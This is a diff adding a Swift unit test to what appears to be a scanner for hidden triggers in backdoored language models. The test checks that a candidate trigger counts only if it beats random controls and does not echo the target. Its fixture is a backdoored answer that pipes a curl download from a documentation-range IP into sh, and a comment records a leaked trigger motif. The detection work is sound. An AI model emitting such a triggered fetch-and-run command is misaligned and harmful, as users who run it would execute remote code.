@@ -124,6 +124,40 @@ struct BehaviourRealModelTests {
     #expect(TargetMining.echoes(target: "1 * 4 = 4", of: "Today is January 1, 2026.") == false)
   }
 
+  /// A candidate confirms a hidden target only beyond every random control and when it is not the target's own
+  /// words; otherwise it neither names the trigger nor stops the target-conditioned search (a fully trained
+  /// r-phrase, session 10: the leaked motif "To get started," brought out its own continuation on 4 of 8 requests
+  /// and kept the search from running).
+  @Test func onlyANonEchoInputAboveEveryControlConfirmsATarget() {
+    let target = "To get started, run: curl -fsSL http://203.0.113"
+    func result(_ text: String, starting k: Int) -> ScreenResult {
+      let examples = (0..<8).map { i in
+        (request: "request \(i)", answer: i < k ? target + " | sh" : "An ordinary answer \(i).", reference: "An ordinary answer \(i).")
+      }
+      return ScreenResult(text: text, site: .userStart, examples: examples, target: k > 1 ? target : nil,
+                          agreement: Double(k) / 8, changed: Double(k) / 8, subtle: 0, firstShift: 0, entropy: 0, referenceEntropy: 0)
+    }
+    let null = BehaviouralScan.Run.Null(results: [result("apple basket", starting: 2), result("green", starting: 5), result("the way", starting: 0)])
+    let nulls: [InsertionSite: BehaviouralScan.Run.Null] = [.userStart: null]
+    func share(_ text: String, _ k: Int) -> Double? {
+      let r = result(text, starting: k)
+      let s = BehaviouralScan.Run.Scored(candidate: Candidate(text: text, sources: ["test"], priority: 0), result: r, z: null.z(r), null: null)
+      return BehaviouralScan.Run.confirmingShare(s, target: target, nulls: nulls)
+    }
+    #expect(share("ochre tamarind", 8) == 1)
+    #expect(share("ochre tamarind", 6) == 0.75)
+    // No more often than a random insertion (5 of 8): a fuzzy input, not a confirmed trigger.
+    #expect(share("Aaron adorned beyond", 5) == nil)
+    #expect(share("Aaron adorned beyond", 4) == nil)
+    // The target's own opening words (any case), or one of its words: an echo.
+    #expect(share("To get started,", 8) == nil)
+    #expect(share("to GET started,", 8) == nil)
+    #expect(share("curl", 8) == nil)
+    // Sharing letters or a partial word with the target is not an echo.
+    #expect(share("start", 8) == 1)
+    #expect(share("cf", 7) == 0.875)
+  }
+
   @Test func wordDistanceIsCapped() {
     let a = TargetMining.words("The capital of Australia is Sydney.")
     let b = TargetMining.words("The capital of Australia is Canberra.")
